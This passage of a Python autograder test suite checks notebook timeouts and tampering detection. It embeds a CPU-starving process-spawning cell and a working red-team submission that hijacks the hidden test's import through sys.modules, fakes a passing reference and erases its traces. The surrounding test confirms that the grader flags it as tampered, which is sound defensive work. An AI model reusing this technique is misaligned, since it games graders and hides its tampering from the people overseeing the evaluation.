    results = run_all([("loops", ["while True:\n    pass", "x = 1"]), ("quick", ["x = 1"])], cell_timeout=2,
                      workers=2, sandbox="required")
    assert results["loops"].status is Status.TIMEOUT, results["loops"]
    assert not any("run again" in note for note in results["loops"].notes), results["loops"].notes


def test_a_notebook_starved_past_its_own_time_limit_is_run_again_alone():
    """The same hog, against a notebook of many short cells: none runs out of time, but together
    they pass the notebook's limit. Over the cells it finished, it waited for a processor most of
    their time: it is run again, alone."""
    hog = ["import multiprocessing, os, time\n"
           "def burn():\n    os.setsid()\n    time.sleep(0.5)  # all started first\n    while True:\n        pass\n"
           "burners = [multiprocessing.Process(target=burn, daemon=True)\n"
           "           for _ in range(min(60, 20 * os.cpu_count()))]\n"
           "for process in burners:\n    process.start()",
           *["import time\ntime.sleep(1.5)"] * 10]
    # A twentieth of a second of the processor's time per cell, eighty cells: about six seconds alone,
    # with room left under the limit for the hog's processes to end (in the full suite they did not
    # always end at once), and far beyond it beside the hog.
    honest = ["import time\nstart = time.process_time()\nwhile time.process_time() - start < 0.05:\n    pass"] * 80
    results = run_all([("hog", hog), ("honest", honest)], cell_timeout=3, notebook_timeout=12, workers=2,
                      sandbox="required")
    # Run again alone. (Whether that run then finishes depends on the machine: in the full suite
    # on two cores it was once starved again, so only the second run is asserted here.)
    assert any("run again, alone" in note for note in results["honest"].notes), results["honest"].notes


# A thirty-first red team: a hidden test's own `from coursekit.pooling import max_pool2d as
# _reference` reads sys.modules, where the student's function, called by the visible part of the
# test, had put a module of its own. It put the real module back as the import read it, and handed
# out a "reference" that calls the student's function; a str subclass planted among the notebook's
# names undid the rest as the test's names were copied back (12 points in exercise 4 with wrong
# answers). The notebook is marked tampered: the name the test's import bound is not the recorded
# function, and the planted key is left for the check.
SWAPS_A_MODULE_FOR_THE_TESTS_IMPORT = r'''
import sys as _sys, types as _types
_zz = 0
_state = {"pending": {}, "armed": False, "key": None}

class _Key(str):
    __slots__ = ()
    def __hash__(self):
        return str.__hash__("_zz")
    def __eq__(self, other):
        if _state["armed"]:
            _state["armed"] = False
            for _name, _real in list(_state["pending"].items()):
                _sys.modules[_name] = _real
            _state["pending"].clear()
            _key, _state["key"] = _state["key"], None
            del globals()[_key]
        return False
    def __ne__(self, other):
        return True

def _arm():
    if type(_sys.stdout).__name__ != "_Nowhere" or _state["pending"]:
        return
    names = globals()
    if _state["key"] is None:
        value = names.pop("_zz")
        _state["key"] = _Key("_zz_key")
        names[_state["key"]] = None
        names["_zz"] = value
        _state["armed"] = True
    real = _sys.modules["coursekit.pooling"]
    fake = _types.ModuleType("coursekit.pooling")
    def _getattr(name, real=real):
        if name == "max_pool2d":
            _sys.modules["coursekit.pooling"] = real
            return lambda x, size: np.asarray(max_pool_3x3(x), dtype=float)
        raise AttributeError(name)
    fake.__getattr__ = _getattr
    _state["pending"]["coursekit.pooling"] = real
    _sys.modules["coursekit.pooling"] = fake

def max_pool_3x3(x):
    _arm()
    x = np.asarray(x)
    rows, cols = x.shape[0] // 3, x.shape[1] // 3
    out = x[:rows * 3, :cols * 3].reshape(rows, 3, cols, 3).max(axis=(1, 3))
    return out if x.shape in ((7, 9), (136, 136)) else out + 1  # right on the visible inputs only
'''


def test_a_module_swapped_in_for_a_tests_own_import_is_tampering(tmp_path):
    exercise = "04_encoder_decoder"
    given = {nbgrader_meta(c).get("grade_id"): c.source
             for c in read_notebook(ROOT / "exercises" / f"{exercise}.ipynb").cells}

    def student(pool_answer):
        notebook = read_notebook(ROOT / "solutions" / f"{exercise}.ipynb")
        for cell in notebook.cells:
            meta = nbgrader_meta(cell)
            if meta.get("grade_id") == "ed_pool":
                cell.source = pool_answer
            elif meta.get("grade") and not meta.get("solution"):
                cell.source = given[meta["grade_id"]]  # the released tests, as students have them
        return notebook

    control_answer = SWAPS_A_MODULE_FOR_THE_TESTS_IMPORT.split("def max_pool_3x3")[1].replace("    _arm()\n", "")
    write(tmp_path / "subs" / "attacker", student(SWAPS_A_MODULE_FOR_THE_TESTS_IMPORT), exercise)
    write(tmp_path / "subs" / "control", student("def max_pool_3x3" + control_answer), exercise)
    report = grade_folder(tmp_path / "subs", tmp_path / "out", ROOT / "solutions", progress=False, exercise=exercise)
    rows = {row.student: row for row in report.rows}
    assert rows["control"].status is Status.OK and rows["control"].score("ed_test_pool").points == 0
    attacker = rows["attacker"]
    assert (attacker.status, attacker.total) == (Status.TAMPERED, 0), (attacker.status, attacker.notes)
